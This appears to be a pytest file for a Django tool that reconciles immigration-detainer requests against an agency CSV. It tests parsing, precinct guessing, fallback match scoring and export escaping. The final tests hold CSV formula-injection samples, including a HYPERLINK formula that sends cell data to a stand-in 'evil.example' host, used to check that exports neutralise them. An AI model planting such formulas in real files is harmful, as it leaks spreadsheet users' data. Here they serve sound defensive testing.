"""The pieces of the rule on their own: column names, dates, the precinct a facility names, the fallback
score, and exports that a spreadsheet cannot run."""

import csv
import io
from datetime import date

import pytest
from django.core.exceptions import ValidationError

from detainers.models import ReconciliationRow
from detainers.reconcile import services
from detainers.reconcile.agency_csv import (
    AgencyRow,
    agency_file_read,
    column_key,
    columns_guess,
    date_read,
    delimiter_sniff,
    gender_normalise,
    mapping_missing,
)
from detainers.reconcile.matching import FaxLine, Matcher, OurRequest, PrecinctGuide
from detainers.reconcile.selectors import csv_safe
from tests.agency_list import agency_scene


@pytest.mark.parametrize(
    ("names", "fact", "column"),
    [
        (["Event #"], "event_number", "Event #"),
        (["EVENT_NUMBER"], "event_number", "EVENT_NUMBER"),
        (["  eid subject id "], "subject_id", "  eid subject id "),
        (["Alien-File-Number"], "a_number", "Alien-File-Number"),
        (["detainer_prepare_date"], "prepare_date", "detainer_prepare_date"),
        (["Detention Facility", "Facility"], "facility", "Detention Facility"),  # the first wins
    ],
)
def test_column_names_are_known_whatever_their_case_spacing_and_punctuation(names, fact, column):
    assert columns_guess(names)[fact] == column


def test_event_hash_and_event_number_are_the_same_name():
    assert column_key("Event #") == column_key("Event Number") == "eventnumber"


def test_a_date_and_one_identifier_or_person_fact_are_required():
    assert len(mapping_missing({})) == 2
    assert len(mapping_missing({"prepare_date": "D"})) == 1
    assert mapping_missing({"prepare_date": "D", "gender": "G"}) == []
    assert mapping_missing({"prepare_date": "D", "a_number": "A"}) == []


@pytest.mark.parametrize(
    "written",
    ["2024-03-15", "2024-03-15 10:22:00", "2024-03-15T10:22:00-04:00", "03/15/2024",
     "3/15/2024 10:22:00 AM", "15-Mar-2024", "March 15, 2024", "20240315"],
)  # fmt: skip
def test_dates_as_the_agency_and_spreadsheets_write_them(written):
    assert date_read(written) == date(2024, 3, 15)


def test_a_date_that_is_not_one_says_so():
    with pytest.raises(ValueError, match="“15/03/2024” is not a date"):
        date_read("15/03/2024")


@pytest.mark.parametrize(
    ("header", "delimiter"),
    [("a,b;c", ","), ("a;b;c", ";"), ("a\tb\tc", "\t"), ("a|b|c", "|"), ("single", ",")],
)
def test_the_delimiter_is_the_one_the_header_uses_most(header, delimiter):
    assert delimiter_sniff(header + "\r\n1,2,3\r\n") == delimiter


def test_blank_lines_and_trailing_empty_cells_are_tolerated():
    read = agency_file_read(b"\r\nDate,Subject ID\r\n2024-01-01,S1,,\r\n\r\n2024-01-02,S2\r\n")
    assert read.columns == ["Date", "Subject ID"]
    assert read.rows == [["2024-01-01", "S1"], ["2024-01-02", "S2"]]
    assert read.line_numbers == [3, 5]


def test_problems_are_listed_five_at_a_time():
    content = b"Date,Subject ID\r\n" + b"2024-01-01\r\n" * 12
    with pytest.raises(ValidationError) as refused:
        agency_file_read(content)
    messages = refused.value.messages
    assert messages[0] == "Line 2 has 1 values; the header names 2 columns."
    assert "… and 7 more." in messages
    assert messages[-1].startswith("Nothing was saved.")


@pytest.mark.parametrize(
    ("raw", "gender"), [("Male", "M"), ("m", "M"), ("FEMALE", "F"), ("U", ""), ("", "")]
)
def test_genders_are_compared_as_one_letter(raw, gender):
    assert gender_normalise(raw) == gender


# --- The precinct a facility names -------------------------------------------------------------------

PRECINCTS = [(1, "B-3", "Mattapan"), (2, "B-2", "Roxbury"), (3, "E-5", "West Roxbury"), (4, "A-15", "Charlestown"), (5, "A-1", "Downtown")]  # fmt: skip


@pytest.fixture
def guide():
    lines = [
        FaxLine(1, "+16175550133", "station", date(2020, 1, 1), None),
        FaxLine(1, "+16175550134", "detainer", date(2024, 6, 1), None),
        FaxLine(2, "+16175550122", "station", date(2020, 1, 1), date(2024, 6, 1)),
    ]
    return PrecinctGuide(PRECINCTS, lines, {"Nashua Street Jail": "A-1"})


@pytest.mark.parametrize(
    ("place", "precinct_id"),
    [
        ("BOSTON POLICE DEPARTMENT DISTRICT B-3", 1),
        ("BPD B3 LOCKUP", 1),
        ("bpd district b 03", 1),
        ("BPD MATTAPAN STATION", 1),
        ("BPD WEST ROXBURY", 3),  # the longer name first: not Roxbury
        ("BPD ROXBURY", 2),
        ("BPD A-15", 4),  # not A-1
        ("NASHUA STREET JAIL, BOSTON", 5),  # the configured mapping
        ("SUFFOLK COUNTY HOUSE OF CORRECTION", None),
        ("BPD B-3 / B-2 TRANSFER", None),  # two precincts: none
        ("MATTAPAN / ROXBURY", None),
        ("B-3 MATTAPAN / ROXBURY", 1),  # the code tells
        ("", None),
    ],
)
def test_the_precinct_is_guessed_from_the_facility(guide, place, precinct_id):
    assert guide.precinct_for(place) == precinct_id


def test_the_line_is_the_precinct_s_number_on_the_day_a_detainer_line_first(guide):
    assert guide.line_for(1, date(2024, 3, 1)) == "+16175550133"
    assert guide.line_for(1, date(2024, 7, 1)) == "+16175550134"
    assert guide.line_for(2, date(2024, 7, 1)) == ""  # retired, nothing after it
    assert guide.line_for(None, date(2024, 7, 1)) == ""


# --- The fallback score ------------------------------------------------------------------------------


def agency_row(**facts) -> AgencyRow:
    return AgencyRow(
        line_number=2, values={}, prepare_date=date(2024, 3, 10), place="BPD B-3", **facts
    )


def ours(pk: int, day: int, **facts) -> OurRequest:
    return OurRequest(
        pk=pk, received_on=date(2024, 3, day), in_year=True, precinct_id=1, line="+1", **facts
    )


def settle(guide, row, *requests):
    return Matcher(requests, guide).by_fallback([row])[0]


def test_a_unique_close_candidate_is_a_fallback_match(guide):
    outcome = settle(
        guide, agency_row(birth_year=1990, gender="M"), ours(1, 12, birth_year=1990, gender="M")
    )
    assert (outcome.result, outcome.request.pk, outcome.confidence) == ("fallback", 1, 0.8)


def test_two_candidates_equally_close_are_ambiguous(guide):
    row = agency_row(birth_year=1990, gender="M")
    outcome = settle(
        guide,
        row,
        ours(1, 11, birth_year=1990, gender="M"),
        ours(2, 9, birth_year=1990, gender="M"),
    )
    assert outcome.result == "ambiguous"
    assert [c["request"] for c in outcome.candidates] == [1, 2]


def test_a_clearly_better_candidate_wins(guide):
    row = agency_row(birth_year=1990, gender="M", citizenship="HAITI")
    outcome = settle(
        guide,
        row,
        ours(1, 10, birth_year=1990, gender="M", citizenship="HAITI"),
        ours(2, 13, birth_year=1990, gender="M"),
    )
    assert (outcome.result, outcome.request.pk) == ("fallback", 1)


@pytest.mark.parametrize(
    "theirs",
    [
        {"birth_year": 1991, "gender": "M"},  # another birth year
        {"birth_year": 1990, "gender": "M", "subject_id": "S2"},  # another Subject ID
    ],
)
def test_a_fact_known_on_both_sides_and_different_rules_a_candidate_out(guide, theirs):
    row = agency_row(birth_year=1990, gender="M", citizenship="HAITI", subject_id="S1")
    assert settle(guide, row, ours(1, 10, **theirs)).result == "agency_only"


def test_too_little_in_common_is_no_match(guide):
    # Same precinct, three days apart, same gender: 30 + 15 + 10 points, under the threshold.
    assert settle(guide, agency_row(gender="F"), ours(1, 13, gender="F")).result == "agency_only"


def test_without_a_precinct_there_is_no_fallback(guide):
    row = agency_row(birth_year=1990, gender="M")
    row.place = "SUFFOLK COUNTY HOUSE OF CORRECTION"
    outcome = settle(guide, row, ours(1, 10, birth_year=1990, gender="M"))
    assert (outcome.result, outcome.precinct_id, outcome.line) == ("agency_only", None, "")


def test_a_person_with_two_requests_matches_each_once_nearest_date_first(guide):
    matcher = Matcher([ours(1, 2, subject_id="S1"), ours(2, 20, subject_id="S1")], guide)
    later = AgencyRow(line_number=2, values={}, prepare_date=date(2024, 3, 19), subject_id="S1")
    earlier = AgencyRow(line_number=3, values={}, prepare_date=date(2024, 3, 1), subject_id="S1")
    assert matcher.by_identifiers(later).request.pk == 2
    assert matcher.by_identifiers(earlier).request.pk == 1
    assert matcher.by_identifiers(earlier) is None  # both taken: a third row matches nothing


# --- Exports ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"), ("+1 617", "'+1 617"), ("-2", "'-2"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("BPD B-3", "BPD B-3"), (None, "")],
)  # fmt: skip
def test_a_cell_never_starts_a_formula(value, cell):
    assert csv_safe(value) == cell


@pytest.mark.django_db
def test_exports_escape_what_the_agency_s_file_held(b3, c11, supervisor, page_as):
    scene = agency_scene(year=2024, precincts=[b3, c11], units=1)
    scene.rows[0]["Detention Facility"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    scene.rows[0]["EID Subject ID"] = "@SUM(1+1)"
    reconciliation = services.reconciliation_upload(
        year=2024, file_name="list.csv", content=scene.csv_bytes(), actor=supervisor
    )
    row = ReconciliationRow.objects.get(reconciliation=reconciliation, line_number=2)
    response = page_as("supervisor").get(
        f"/reports/reconcile/{reconciliation.pk}/export.csv?result={row.result}"
    )
    body = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    cells = [cell for line in csv.reader(io.StringIO(body)) for cell in line]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
